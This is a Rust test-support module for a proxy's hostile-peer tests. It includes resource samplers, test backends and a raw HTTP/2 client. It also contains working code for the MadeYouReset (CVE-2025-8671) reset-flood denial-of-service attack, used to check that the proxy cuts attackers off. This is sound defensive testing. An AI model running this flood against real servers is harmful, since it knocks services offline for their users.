//! What every hostile-peer case shares: the proxy's memory and descriptors
//! read from /proc and /metrics, a well-behaved client measured during the
//! attack, backends that stream large bodies or never read, and a mesh
//! wiring them to a controller and a proxy.

use crate::support::{
    metrics::Metrics,
    proxy::{authority, get, pods_of, start_backends, Cluster, Http1, Proxy, WEB_PORT},
    Controller, DEADLINE,
};
use ballast_demo::Backend;
use http::{Request, Response, StatusCode};
use http_body_util::{combinators::UnsyncBoxBody, BodyExt, Full, StreamBody};
use hyper::body::{Bytes, Frame, Incoming};
use hyper_util::rt::{TokioExecutor, TokioIo};
use std::{
    convert::Infallible,
    net::SocketAddr,
    sync::{
        atomic::{AtomicBool, AtomicU64, Ordering},
        Arc, Mutex,
    },
    time::{Duration, Instant},
};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpListener, TcpStream},
    task::{JoinHandle, JoinSet},
};

pub const MB: u64 = 1024 * 1024;

/// One field of /proc/PID/status in bytes (the kernel reports kB).
pub fn status_bytes(pid: u32, field: &str) -> Option<u64> {
    crate::support::proc_bytes(&format!("/proc/{pid}/status"), field)
}

pub fn rss(pid: u32) -> u64 {
    status_bytes(pid, "VmRSS").unwrap_or(0)
}

/// Resets the kernel's RSS high-water mark (VmHWM) of `pid` to its current
/// RSS, so that VmHWM read later is the peak of what happened in between,
/// however brief (a spike between two samples is what killed seed 004's proxy).
pub fn reset_peak(pid: u32) -> bool {
    std::fs::write(format!("/proc/{pid}/clear_refs"), "5").is_ok()
}

pub fn fds(pid: u32) -> usize {
    std::fs::read_dir(format!("/proc/{pid}/fd"))
        .map(|d| d.count())
        .unwrap_or(0)
}

/// Raises this process's descriptor limit (inherited by the proxies it
/// starts) to at least `want` where the hard limit, or root, allows.
pub fn raise_nofile(want: u64) -> u64 {
    let mut lim = libc::rlimit {
        rlim_cur: 0,
        rlim_max: 0,
    };
    // SAFETY: getrlimit/setrlimit only read and write the struct given.
    unsafe {
        if libc::getrlimit(libc::RLIMIT_NOFILE, &mut lim) != 0 {
            return 0;
        }
        if lim.rlim_cur >= want {
            return lim.rlim_cur;
        }
        let raised = libc::rlimit {
            rlim_cur: want,
            rlim_max: lim.rlim_max.max(want),
        };
        if libc::setrlimit(libc::RLIMIT_NOFILE, &raised) == 0 {
            return want;
        }
        let soft = libc::rlimit {
            rlim_cur: lim.rlim_max,
            rlim_max: lim.rlim_max,
        };
        if libc::setrlimit(libc::RLIMIT_NOFILE, &soft) == 0 {
            return lim.rlim_max;
        }
        lim.rlim_cur
    }
}

/// The proxy's footprint at one moment.
#[derive(Debug, Clone, Copy)]
pub struct Footprint {
    pub rss: u64,
    pub allocated: u64,
    pub fds: usize,
}

impl Footprint {
    pub async fn of(proxy: &Proxy) -> Footprint {
        let m = proxy.metrics().await;
        Footprint {
            rss: rss(proxy.pid()),
            allocated: m.sum("process_memory_allocated_bytes", &[]) as u64,
            fds: proxy.open_fds(),
        }
    }
}

impl std::fmt::Display for Footprint {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "RSS {:.1} MiB, allocated {:.1} MiB, {} fds",
            self.rss as f64 / MB as f64,
            self.allocated as f64 / MB as f64,
            self.fds
        )
    }
}

/// Peak RSS and descriptors of a process while it runs: VmRSS and the fd
/// count sampled every few milliseconds, and the kernel's VmHWM (reset at
/// start) which no sampling gap can miss.
pub struct Peak {
    pid: u32,
    stop: Arc<AtomicBool>,
    task: JoinHandle<(u64, usize)>,
    hwm_reset: bool,
}

#[derive(Debug, Clone, Copy)]
pub struct PeakReport {
    pub rss: u64,
    pub fds: usize,
}

impl Peak {
    pub fn start(pid: u32) -> Peak {
        let hwm_reset = reset_peak(pid);
        let stop = Arc::new(AtomicBool::new(false));
        let flag = stop.clone();
        let task = tokio::spawn(async move {
            let (mut most_rss, mut most_fds) = (0, 0);
            while !flag.load(Ordering::Relaxed) {
                most_rss = most_rss.max(rss(pid));
                most_fds = most_fds.max(fds(pid));
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
            (most_rss, most_fds)
        });
        Peak {
            pid,
            stop,
            task,
            hwm_reset,
        }
    }

    pub async fn stop(self) -> PeakReport {
        let hwm = if self.hwm_reset {
            status_bytes(self.pid, "VmHWM").unwrap_or(0)
        } else {
            0
        };
        self.stop.store(true, Ordering::Relaxed);
        let (sampled, fds) = self.task.await.expect("sampler");
        PeakReport {
            rss: sampled.max(hwm),
            fds,
        }
    }
}

/// Asserts the peak stayed under `ceiling`.
pub fn assert_peak_under(case: &str, base: Footprint, peak: PeakReport, ceiling: u64) {
    eprintln!(
        "{case}: baseline {base}; peak RSS {:.1} MiB (ceiling {:.1} MiB), peak fds {}",
        peak.rss as f64 / MB as f64,
        ceiling as f64 / MB as f64,
        peak.fds
    );
    assert!(
        peak.rss <= ceiling,
        "{case}: the proxy's RSS reached {:.1} MiB, over the {:.1} MiB ceiling (baseline {base})",
        peak.rss as f64 / MB as f64,
        ceiling as f64 / MB as f64,
    );
}

/// Asserts the proxy is alive: its process runs and /live answers 200.
pub async fn assert_alive(case: &str, proxy: &mut Proxy) {
    if let Ok(Some(status)) = proxy.process.child.try_wait() {
        panic!(
            "{case}: the proxy exited ({status}); its log:\n{}",
            proxy.process.log()
        );
    }
    let live = get(proxy.admin, "admin", "/live").await;
    assert!(
        matches!(&live, Ok(a) if a.status == StatusCode::OK),
        "{case}: the proxy's /live did not answer 200: {live:?}"
    );
}

/// Waits until the proxy is back near `base` after an attack: its RSS within
/// `rss_slack` of the baseline, or, failing that, jemalloc's allocated bytes
/// within `allocated_slack`. RSS alone is not enough: jemalloc keeps freed
/// pages for reuse (and returns them only after its decay time), and the
/// first run of a code path faults in pages of the binary that stay mapped;
/// neither is memory the attack still holds. Allocated bytes are what the
/// proxy's data structures actually hold.
pub async fn assert_back_near(
    case: &str,
    proxy: &Proxy,
    base: Footprint,
    rss_slack: u64,
    allocated_slack: u64,
) -> Footprint {
    let started = Instant::now();
    // Longer than the usual deadline: jemalloc's default decay is 10 s.
    let limit = DEADLINE + Duration::from_secs(10);
    loop {
        let now = Footprint::of(proxy).await;
        let rss_back = now.rss <= base.rss + rss_slack;
        let allocated_back = now.allocated <= base.allocated + allocated_slack;
        if rss_back || allocated_back {
            eprintln!(
                "{case}: after the attack {now} ({} back near the baseline {base}) in {:?}",
                if rss_back { "RSS" } else { "allocated bytes" },
                started.elapsed()
            );
            return now;
        }
        assert!(
            started.elapsed() < limit,
            "{case}: not back near the baseline {:?} after the attack: now {now}, \
             baseline {base}, slack RSS {} MiB / allocated {} MiB",
            limit,
            rss_slack / MB,
            allocated_slack / MB
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

/// Failures seen by a client: a count and the first few messages.
#[derive(Default)]
pub struct Failures {
    count: AtomicU64,
    first: Mutex<Vec<String>>,
}

impl Failures {
    pub fn record(&self, what: String) {
        self.count.fetch_add(1, Ordering::Relaxed);
        let mut first = self.first.lock().unwrap();
        if first.len() < 10 {
            first.push(what);
        }
    }

    pub fn count(&self) -> u64 {
        self.count.load(Ordering::Relaxed)
    }

    pub fn report(&self) -> String {
        self.first.lock().unwrap().join("\n")
    }
}

/// A well-behaved client sending GETs through the proxy while an attack
/// runs: alternately on a kept-alive HTTP/1.1 connection and on a fresh one,
/// every 20 ms.
pub struct Good {
    stop: Arc<AtomicBool>,
    task: JoinHandle<()>,
    ok: Arc<AtomicU64>,
    slowest: Arc<AtomicU64>,
    failures: Arc<Failures>,
}

pub struct GoodReport {
    pub ok: u64,
    pub failed: u64,
    pub slowest: Duration,
    pub first_failures: String,
}

impl Good {
    pub fn start(addr: SocketAddr, authority: String) -> Good {
        let stop = Arc::new(AtomicBool::new(false));
        let ok = Arc::new(AtomicU64::new(0));
        let slowest = Arc::new(AtomicU64::new(0));
        let failures = Arc::new(Failures::default());
        let task = {
            let (stop, ok, slowest, failures) =
                (stop.clone(), ok.clone(), slowest.clone(), failures.clone());
            tokio::spawn(async move {
                let mut kept: Option<Http1> = None;
                let mut n = 0u64;
                while !stop.load(Ordering::Relaxed) {
                    n += 1;
                    let started = Instant::now();
                    let answer = if n.is_multiple_of(2) {
                        if kept.is_none() {
                            kept = Http1::connect(addr).await.ok();
                        }
                        match kept.as_mut() {
                            Some(c) => c.get(&authority, "/").await,
                            None => Err("cannot connect".to_string()),
                        }
                    } else {
                        get(addr, &authority, "/").await
                    };
                    slowest.fetch_max(started.elapsed().as_micros() as u64, Ordering::Relaxed);
                    match answer {
                        Ok(a) if a.status == StatusCode::OK => {
                            ok.fetch_add(1, Ordering::Relaxed);
                        }
                        Ok(a) => failures.record(format!("{} {:?}", a.status, a.headers)),
                        Err(e) => {
                            kept = None;
                            failures.record(e);
                        }
                    }
                    tokio::time::sleep(Duration::from_millis(20)).await;
                }
            })
        };
        Good {
            stop,
            task,
            ok,
            slowest,
            failures,
        }
    }

    pub async fn stop(self) -> GoodReport {
        self.stop.store(true, Ordering::Relaxed);
        let _ = tokio::time::timeout(DEADLINE + Duration::from_secs(5), self.task).await;
        GoodReport {
            ok: self.ok.load(Ordering::Relaxed),
            failed: self.failures.count(),
            slowest: Duration::from_micros(self.slowest.load(Ordering::Relaxed)),
            first_failures: self.failures.report(),
        }
    }
}

/// Stops the client and asserts every one of its requests succeeded, and
/// that it sent at least `min_ok` during the attack.
pub async fn assert_served(case: &str, good: Good, min_ok: u64, proxy: &Proxy) {
    let r = good.stop().await;
    eprintln!(
        "{case}: well-behaved client: {} ok, {} failed, slowest {:?}",
        r.ok, r.failed, r.slowest
    );
    assert_eq!(
        r.failed,
        0,
        "{case}: {} requests of the well-behaved client failed during the attack; first:\n{}\n\
         proxy log:\n{}",
        r.failed,
        r.first_failures,
        proxy.process.log()
    );
    assert!(
        r.ok >= min_ok,
        "{case}: only {} requests of the well-behaved client were served during the attack",
        r.ok
    );
}

/// Runs the attack for at least `at_least`, while the good client goes on.
pub async fn hold(at_least: Duration) {
    tokio::time::sleep(at_least).await;
}

type BoxBody = UnsyncBoxBody<Bytes, Infallible>;

/// An HTTP/1.1 and HTTP/2 backend with large bodies:
/// `GET /big?bytes=N` streams N bytes in 64 KiB chunks as fast as the reader
/// takes them; `GET /slow?ms=N` answers after N ms; anything else reads the
/// request body to the end and answers `ok`.
pub struct Big {
    addr: SocketAddr,
    sent: Arc<AtomicU64>,
    task: JoinHandle<()>,
}

const CHUNK: usize = 64 * 1024;

impl Big {
    pub async fn start(bind: SocketAddr) -> Big {
        let listener = TcpListener::bind(bind).await.expect("bind the big backend");
        let addr = listener.local_addr().unwrap();
        let sent = Arc::new(AtomicU64::new(0));
        let counter = sent.clone();
        let task = tokio::spawn(async move {
            let mut conns = JoinSet::new();
            loop {
                tokio::select! {
                    Some(_) = conns.join_next() => {}
                    accepted = listener.accept() => {
                        let Ok((stream, _)) = accepted else { continue };
                        let counter = counter.clone();
                        conns.spawn(async move {
                            let service = hyper::service::service_fn(move |req| {
                                let counter = counter.clone();
                                async move { Ok::<_, Infallible>(big_answer(req, counter).await) }
                            });
                            let _ = hyper_util::server::conn::auto::Builder::new(TokioExecutor::new())
                                .serve_connection(TokioIo::new(stream), service)
                                .await;
                        });
                    }
                }
            }
        });
        Big { addr, sent, task }
    }

    pub fn addr(&self) -> SocketAddr {
        self.addr
    }

    /// Body bytes handed to connections so far.
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }
}

impl Drop for Big {
    fn drop(&mut self) {
        self.task.abort();
    }
}

fn query_number(req: &Request<Incoming>, key: &str) -> Option<u64> {
    req.uri()
        .query()?
        .split('&')
        .find_map(|kv| kv.strip_prefix(key)?.strip_prefix('='))?
        .parse()
        .ok()
}

async fn big_answer(req: Request<Incoming>, sent: Arc<AtomicU64>) -> Response<BoxBody> {
    let path = req.uri().path().to_string();
    if path == "/big" {
        let total = query_number(&req, "bytes").unwrap_or(0);
        let chunk = Bytes::from(vec![b'x'; CHUNK]);
        let frames = futures_util::stream::unfold(total, move |left| {
            let chunk = chunk.clone();
            let sent = sent.clone();
            async move {
                if left == 0 {
                    return None;
                }
                let n = left.min(CHUNK as u64);
                sent.fetch_add(n, Ordering::Relaxed);
                let data = chunk.slice(..n as usize);
                Some((Ok::<_, Infallible>(Frame::data(data)), left - n))
            }
        });
        let mut rsp = Response::new(BodyExt::boxed_unsync(StreamBody::new(frames)));
        rsp.headers_mut()
            .insert(http::header::CONTENT_LENGTH, total.into());
        return rsp;
    }
    if path == "/slow" {
        let ms = query_number(&req, "ms").unwrap_or(0);
        tokio::time::sleep(Duration::from_millis(ms)).await;
    }
    let mut body = req.into_body();
    while let Some(frame) = body.frame().await {
        if frame.is_err() {
            break;
        }
    }
    Response::new(Full::new(Bytes::from_static(b"ok\n")).boxed_unsync())
}

#[allow(dead_code)] // held for their lifetime
/// A controller over service `web` (one demo backend, for the well-behaved
/// client) and any other services given as `(name, address)`, and a proxy
/// with `flags`, the route to `web` already working.
pub struct Hostile {
    pub cluster: Cluster,
    pub web_backend: Backend,
    pub controller: Controller,
    pub proxy: Proxy,
}

impl Hostile {
    pub async fn start(services: &[(&str, SocketAddr)], flags: &[&str]) -> Hostile {
        let cluster = Cluster::new();
        let mut web = start_backends("web", 1).await;
        cluster.pods("web", &pods_of(&web));
        cluster.service("web", "web", "127.0.0.100", WEB_PORT);
        for (i, (name, addr)) in services.iter().enumerate() {
            cluster.pods(name, &[(format!("{name}-a"), *addr)]);
            cluster.service(name, name, &format!("127.0.0.{}", 101 + i), WEB_PORT);
        }
        let controller = Controller::start(cluster.path(), &[]).await;
        let proxy = Proxy::start(controller.grpc, flags).await;
        let h = Hostile {
            cluster,
            web_backend: web.remove(0),
            controller,
            proxy,
        };
        h.warm().await;
        h
    }

    pub fn web(&self) -> String {
        authority("web", WEB_PORT)
    }

    /// Routes `web` and sends a few requests, so the baseline includes a
    /// proxy that has served (resolution, pools, metrics families).
    pub async fn warm(&self) {
        let web = self.web();
        let outbound = self.proxy.outbound;
        // The last answer, and the proxy's and controller's logs, are in
        // the failure: a first 200 that never comes has been seen once on a
        // loaded machine and not understood.
        let started = Instant::now();
        loop {
            let last = match get(outbound, &web, "/").await {
                Ok(a) if a.status == StatusCode::OK => break,
                Ok(a) => format!("{} {:?}", a.status, a.header("l5d-proxy-error")),
                Err(e) => e,
            };
            assert!(
                started.elapsed() < DEADLINE,
                "no 200 for web through the proxy in {DEADLINE:?}; last answer: {last}\n\
                 proxy log:\n{}\ncontroller log:\n{}",
                self.proxy.process.log(),
                self.controller.process.log()
            );
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        let mut c = Http1::connect(outbound).await.unwrap();
        for _ in 0..20 {
            assert_eq!(c.get(&web, "/").await.unwrap().status, StatusCode::OK);
        }
    }

    /// The footprint after the warm-up, once it has settled.
    pub async fn baseline(&self) -> Footprint {
        tokio::time::sleep(Duration::from_millis(500)).await;
        Footprint::of(&self.proxy).await
    }
}

/// Writes `head` then reads the first line of the answer: its status, or
/// `None` when the proxy closed or reset the connection without one.
pub async fn raw_exchange(
    addr: SocketAddr,
    head: &[u8],
    wait: Duration,
) -> Result<Option<u16>, String> {
    let mut s = TcpStream::connect(addr)
        .await
        .map_err(|e| format!("connect: {e}"))?;
    // The proxy may close before taking all of it: that is a refusal too.
    let _ = tokio::time::timeout(wait, s.write_all(head)).await;
    let mut buf = vec![0u8; 4096];
    let mut got = Vec::new();
    let read = tokio::time::timeout(wait, async {
        loop {
            match s.read(&mut buf).await {
                Ok(0) | Err(_) => return,
                Ok(n) => {
                    got.extend_from_slice(&buf[..n]);
                    if got.windows(2).any(|w| w == b"\r\n") {
                        return;
                    }
                }
            }
        }
    })
    .await;
    if read.is_err() {
        return Err(format!(
            "no answer and no close within {wait:?} (got {:?})",
            String::from_utf8_lossy(&got)
        ));
    }
    Ok(String::from_utf8_lossy(&got)
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok()))
}

// A hand-written HTTP/2 client, for frames no well-behaved client sends.

/// What a client sends first on an HTTP/2 connection (RFC 9113 §3.4).
pub const H2_PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
pub const H2_DATA: u8 = 0x0;
pub const H2_HEADERS: u8 = 0x1;
pub const H2_RST_STREAM: u8 = 0x3;
pub const H2_SETTINGS: u8 = 0x4;
pub const H2_PING: u8 = 0x6;
pub const H2_GOAWAY: u8 = 0x7;
pub const H2_WINDOW_UPDATE: u8 = 0x8;
pub const H2_END_STREAM: u8 = 0x1;
pub const H2_ACK: u8 = 0x1;
pub const H2_END_HEADERS: u8 = 0x4;
pub const H2_SETTINGS_MAX_CONCURRENT_STREAMS: u16 = 0x3;
pub const H2_REFUSED_STREAM: u32 = 0x7;
pub const H2_ENHANCE_YOUR_CALM: u32 = 0xb;
/// The largest flow-control window (RFC 9113 §6.9.1).
pub const H2_MAX_WINDOW: u32 = 0x7fff_ffff;

/// Appends one frame: the 9-byte header (RFC 9113 §4.1), then `payload`.
pub fn h2_frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = u32::try_from(payload.len()).expect("frame payload fits 24 bits");
    assert!(len < 1 << 24, "frame payload fits 24 bits");
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
}

/// A SETTINGS frame with `params`.
pub fn h2_settings(out: &mut Vec<u8>, params: &[(u16, u32)]) {
    let payload: Vec<u8> = params
        .iter()
        .flat_map(|(id, v)| id.to_be_bytes().into_iter().chain(v.to_be_bytes()))
        .collect();
    h2_frame(out, H2_SETTINGS, 0, 0, &payload);
}

/// A HEADERS frame opening `stream` with `headers`, each encoded as an
/// HPACK literal without indexing and without Huffman (RFC 7541 §6.2.2), so
/// the encoder keeps no table.
pub fn h2_headers(out: &mut Vec<u8>, stream: u32, headers: &[(&str, &str)], end_stream: bool) {
    let mut block = Vec::new();
    for (name, value) in headers {
        // Literal without indexing, new name.
        block.push(0);
        for s in [name, value] {
            // A 7-bit length prefix holds up to 126 in one byte.
            let len = u8::try_from(s.len()).ok().filter(|l| *l < 127);
            block.push(len.expect("header name or value under 127 bytes"));
            block.extend_from_slice(s.as_bytes());
        }
    }
    let flags = H2_END_HEADERS | if end_stream { H2_END_STREAM } else { 0 };
    h2_frame(out, H2_HEADERS, flags, stream, &block);
}

/// A WINDOW_UPDATE of `increment` on `stream` (0: the connection).
pub fn h2_window_update(out: &mut Vec<u8>, stream: u32, increment: u32) {
    h2_frame(out, H2_WINDOW_UPDATE, 0, stream, &increment.to_be_bytes());
}

/// What the server has sent on a raw HTTP/2 connection so far.
#[derive(Debug, Clone, Default)]
pub struct H2Seen {
    /// RST_STREAM frames, of any code.
    pub resets: u64,
    /// RST_STREAM frames with REFUSED_STREAM.
    pub refused: u64,
    /// HEADERS frames (responses).
    pub headers: u64,
    /// The first GOAWAY: last stream id and error code.
    pub goaway: Option<(u32, u32)>,
    /// SETTINGS_MAX_CONCURRENT_STREAMS from the server's first SETTINGS.
    pub max_concurrent_streams: Option<u32>,
    pub settings_seen: bool,
    /// The server closed the connection (or it failed).
    pub closed: bool,
}

/// A raw HTTP/2 connection: frames are written by hand, and a task reads the
/// server's frames as fast as they come (so the server never waits on its
/// writes), answers its SETTINGS and PINGs, and records what it saw.
pub struct RawH2 {
    writer: Arc<tokio::sync::Mutex<tokio::net::tcp::OwnedWriteHalf>>,
    seen: tokio::sync::watch::Receiver<H2Seen>,
    reader: JoinHandle<()>,
}

impl Drop for RawH2 {
    fn drop(&mut self) {
        self.reader.abort();
    }
}

impl RawH2 {
    /// Connects, sends the preface and empty SETTINGS.
    pub async fn connect(addr: SocketAddr) -> std::io::Result<RawH2> {
        let tcp = TcpStream::connect(addr).await?;
        tcp.set_nodelay(true)?;
        let (mut rd, mut wr) = tcp.into_split();
        // The preface goes out before the reader starts: the server sends
        // its SETTINGS at once, and an ACK written ahead of the preface
        // makes the server close the connection without a GOAWAY.
        let mut hello = H2_PREFACE.to_vec();
        h2_settings(&mut hello, &[]);
        wr.write_all(&hello).await?;
        let writer = Arc::new(tokio::sync::Mutex::new(wr));
        let (tx, seen) = tokio::sync::watch::channel(H2Seen::default());
        let w = writer.clone();
        let reader = tokio::spawn(async move {
            let mut head = [0u8; 9];
            let mut payload = Vec::new();
            loop {
                if rd.read_exact(&mut head).await.is_err() {
                    break;
                }
                let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
                let (kind, flags) = (head[3], head[4]);
                payload.resize(len, 0);
                if rd.read_exact(&mut payload).await.is_err() {
                    break;
                }
                let mut answer = Vec::new();
                match kind {
                    H2_RST_STREAM if len == 4 => {
                        let code =
                            u32::from_be_bytes([payload[0], payload[1], payload[2], payload[3]]);
                        tx.send_modify(|s| {
                            s.resets += 1;
                            s.refused += u64::from(code == H2_REFUSED_STREAM);
                        });
                    }
                    H2_HEADERS => tx.send_modify(|s| s.headers += 1),
                    H2_GOAWAY if len >= 8 => {
                        let last =
                            u32::from_be_bytes([payload[0], payload[1], payload[2], payload[3]])
                                & 0x7fff_ffff;
                        let code =
                            u32::from_be_bytes([payload[4], payload[5], payload[6], payload[7]]);
                        tx.send_modify(|s| {
                            s.goaway.get_or_insert((last, code));
                        });
                    }
                    H2_SETTINGS if flags & H2_ACK == 0 => {
                        let max = payload.chunks_exact(6).find_map(|p| {
                            (u16::from_be_bytes([p[0], p[1]]) == H2_SETTINGS_MAX_CONCURRENT_STREAMS)
                                .then(|| u32::from_be_bytes([p[2], p[3], p[4], p[5]]))
                        });
                        // Acknowledged before it is reported: a test that
                        // sends on seeing the SETTINGS must find them in
                        // force (h2 applies its limits on the ACK).
                        h2_frame(&mut answer, H2_SETTINGS, H2_ACK, 0, &[]);
                        let _ = w.lock().await.write_all(&answer).await;
                        answer.clear();
                        tx.send_modify(|s| {
                            if !s.settings_seen {
                                s.settings_seen = true;
                                s.max_concurrent_streams = max;
                            }
                        });
                    }
                    H2_PING if flags & H2_ACK == 0 => {
                        h2_frame(&mut answer, H2_PING, H2_ACK, 0, &payload);
                    }
                    _ => {}
                }
                if !answer.is_empty() {
                    let _ = w.lock().await.write_all(&answer).await;
                }
            }
            tx.send_modify(|s| s.closed = true);
        });
        Ok(RawH2 {
            writer,
            seen,
            reader,
        })
    }

    pub async fn send(&self, bytes: &[u8]) -> std::io::Result<()> {
        self.writer.lock().await.write_all(bytes).await
    }

    pub fn seen(&self) -> H2Seen {
        self.seen.borrow().clone()
    }

    /// Waits until what was seen satisfies `done`, for at most `limit`.
    pub async fn wait_for(&self, limit: Duration, done: impl Fn(&H2Seen) -> bool) -> H2Seen {
        let mut seen = self.seen.clone();
        let _ = tokio::time::timeout(limit, seen.wait_for(|s| done(s))).await;
        self.seen()
    }
}

/// Opens twice `limit` streams at once on a new connection to `addr`,
/// before reading its SETTINGS, each HEADERS then one DATA frame with
/// END_STREAM (a refused stream's DATA costs h2 a second reset): `body` on
/// the first `limit`, empty on the excess. (Sent at once, all the DATA must
/// fit the 64 KiB connection window: 2,000 controller `Get`s of 45 bytes
/// passed it, and the server rightly cut the connection with
/// FLOW_CONTROL_ERROR whenever it had not yet read enough of the granted
/// streams' messages, as a CI run saw.) It
/// asserts the server refused the excess with REFUSED_STREAM, answered every
/// granted stream with a response head, and kept the connection. Returns
/// what was seen, the connection still open until it is dropped.
pub async fn assert_twice_the_limit_refused_not_cut(
    case: &str,
    addr: SocketAddr,
    headers: &[(&str, &str)],
    body: &[u8],
    limit: u32,
) -> (RawH2, H2Seen) {
    assert!(
        limit as usize * body.len() <= 65_535,
        "{case}: the granted streams' bodies pass the initial connection window"
    );
    let raw = RawH2::connect(addr).await.expect("connect");
    let mut frames = Vec::new();
    for i in 0..2 * limit {
        h2_headers(&mut frames, 1 + 2 * i, headers, false);
        let data = if i < limit { body } else { &[] };
        h2_frame(&mut frames, H2_DATA, H2_END_STREAM, 1 + 2 * i, data);
    }
    raw.send(&frames).await.expect("open the streams");
    let limit = u64::from(limit);
    let seen = raw
        .wait_for(DEADLINE, |s| {
            (s.refused >= limit && s.headers >= limit) || s.closed || s.goaway.is_some()
        })
        .await;
    eprintln!("{case}: {seen:?}");
    assert_eq!(
        seen.goaway, None,
        "{case}: the connection was cut: {seen:?}"
    );
    assert!(!seen.closed, "{case}: the connection was closed: {seen:?}");
    assert_eq!(
        seen.refused, limit,
        "{case}: streams past the limit refused: {seen:?}"
    );
    assert_eq!(
        seen.headers, limit,
        "{case}: granted streams answered (one response head each): {seen:?}"
    );
    (raw, seen)
}

/// The outcome of one MadeYouReset connection.
#[derive(Debug, Clone)]
pub struct ResetAttack {
    /// Streams the attacker opened.
    pub opened: u64,
    pub seen: H2Seen,
}

/// Streams opened per write: enough to outrun the server, few enough that
/// the attacker stops soon after the GOAWAY.
const RESET_BATCH: u32 = 32;

/// MadeYouReset (CVE-2025-8671) on one connection: opens streams with
/// `headers` (without END_STREAM, so the request is being served), each
/// followed at once by a WINDOW_UPDATE on that stream that takes its send
/// window past 2^31-1, a stream error (FLOW_CONTROL_ERROR) the server must
/// answer with RST_STREAM. (h2 takes an increment of 0 for a connection
/// error, so that frame would cut the connection at once.) Goes on until the server sends
/// GOAWAY or closes, `max_streams` are opened, or `limit` has passed; then
/// waits briefly for the server's last frames.
pub async fn made_you_reset(
    addr: SocketAddr,
    headers: &[(&str, &str)],
    max_streams: u64,
    limit: Duration,
) -> ResetAttack {
    let started = Instant::now();
    let c = RawH2::connect(addr).await.expect("connect the attacker");
    let mut opened = 0u64;
    let mut id = 1u32;
    while opened < max_streams && started.elapsed() < limit {
        let s = c.seen();
        if s.goaway.is_some() || s.closed {
            break;
        }
        let mut batch = Vec::new();
        for _ in 0..RESET_BATCH {
            h2_headers(&mut batch, id, headers, false);
            h2_window_update(&mut batch, id, H2_MAX_WINDOW);
            id += 2;
            opened += 1;
        }
        if c.send(&batch).await.is_err() {
            break;
        }
    }
    let seen = c
        .wait_for(Duration::from_secs(2), |s| s.goaway.is_some() || s.closed)
        .await;
    ResetAttack { opened, seen }
}

/// MadeYouReset from `attackers` clients at once, each opening connection
/// after connection (at most `max_connections` each) until `held` has
/// passed; every connection stops at the server's GOAWAY or after
/// `max_streams` streams. Returns each connection's outcome.
pub async fn reset_flood(
    addr: SocketAddr,
    headers: &[(&str, &str)],
    attackers: usize,
    max_connections: usize,
    max_streams: u64,
    held: Duration,
) -> Vec<ResetAttack> {
    let started = Instant::now();
    let mut set = JoinSet::new();
    for _ in 0..attackers {
        let headers: Vec<(String, String)> = headers
            .iter()
            .map(|(n, v)| (n.to_string(), v.to_string()))
            .collect();
        set.spawn(async move {
            let headers: Vec<(&str, &str)> = headers
                .iter()
                .map(|(n, v)| (n.as_str(), v.as_str()))
                .collect();
            let mut outcomes = Vec::new();
            while outcomes.len() < max_connections && started.elapsed() < held {
                // A connection that is never cut is given the whole hold.
                let left = held.saturating_sub(started.elapsed());
                let limit = left.max(Duration::from_secs(1));
                outcomes.push(made_you_reset(addr, &headers, max_streams, limit).await);
            }
            outcomes
        });
    }
    let mut all = Vec::new();
    while let Some(r) = set.join_next().await {
        all.extend(r.expect("attacker task"));
    }
    all
}

/// Asserts every attacking connection was cut by GOAWAY with
/// ENHANCE_YOUR_CALM after at most `max_resets` stream resets.
pub fn assert_cut_after(case: &str, attacks: &[ResetAttack], max_resets: u64) {
    let most = attacks.iter().map(|a| a.seen.resets).max().unwrap_or(0);
    let opened: u64 = attacks.iter().map(|a| a.opened).sum();
    let resets: u64 = attacks.iter().map(|a| a.seen.resets).sum();
    eprintln!(
        "{case}: {} attacking connections, {opened} streams opened, {resets} resets \
         (at most {most} on one connection; allowed {max_resets})",
        attacks.len()
    );
    assert!(!attacks.is_empty(), "{case}: no attacking connection");
    for a in attacks {
        assert!(
            a.seen.goaway.map(|(_, code)| code) == Some(H2_ENHANCE_YOUR_CALM),
            "{case}: a connection was not cut with GOAWAY ENHANCE_YOUR_CALM: {a:?}"
        );
        assert!(
            a.seen.resets <= max_resets,
            "{case}: the server reset {} streams on one connection before its GOAWAY \
             (allowed {max_resets}): {a:?}",
            a.seen.resets
        );
    }
}

/// One sample of jemalloc's allocated bytes from an admin server's /metrics.
pub async fn allocated(admin: SocketAddr) -> Option<u64> {
    let (status, body) = crate::support::http_get(admin, "/metrics").await;
    if status != 200 {
        return None;
    }
    Metrics::parse(&body)
        .value("process_memory_allocated_bytes")
        .map(|v| v as u64)
}

/// The highest allocated bytes a process reported on /metrics while it ran,
/// sampled every 50 ms.
pub struct AllocatedPeak {
    stop: Arc<AtomicBool>,
    task: JoinHandle<u64>,
}

impl AllocatedPeak {
    pub fn start(admin: SocketAddr) -> AllocatedPeak {
        let stop = Arc::new(AtomicBool::new(false));
        let flag = stop.clone();
        let task = tokio::spawn(async move {
            let mut most = 0;
            while !flag.load(Ordering::Relaxed) {
                most = most.max(allocated(admin).await.unwrap_or(0));
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
            most.max(allocated(admin).await.unwrap_or(0))
        });
        AllocatedPeak { stop, task }
    }

    pub async fn stop(self) -> u64 {
        self.stop.store(true, Ordering::Relaxed);
        self.task.await.expect("allocated-bytes sampler")
    }
}
